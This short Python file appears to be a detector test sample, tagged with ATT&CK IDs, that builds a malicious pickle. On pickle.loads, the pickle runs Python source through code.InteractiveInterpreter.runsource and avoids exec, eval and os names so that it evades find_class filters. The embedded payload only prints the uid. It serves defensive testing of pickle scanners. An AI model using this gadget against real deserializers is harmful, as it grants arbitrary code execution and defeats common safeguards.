# technique: T1059.006 T1203
"""Hand-written pickle that builds code.InteractiveInterpreter and calls runsource (T1059.006, T1203).

The unpickler instantiates code.InteractiveInterpreter, fetches its
runsource method with builtins.getattr, and calls it with Python source
given in the pickle as a unicode string: the standard library's REPL
compiles and runs it. No exec/eval/os names are resolved by find_class.

A good detector raises a high alert: unpickling constructs a code runner
and code runs inside pickle.loads.
"""
import pickle

source = "import os\\u000aprint('interpreter gadget, uid', os.getuid())"
payload = (b"cbuiltins\ngetattr\n(ccode\nInteractiveInterpreter\n)RVrunsource\ntR"
           b"(V" + source.encode() + b"\nVgadget\nVexec\ntR.")
pickle.loads(payload)
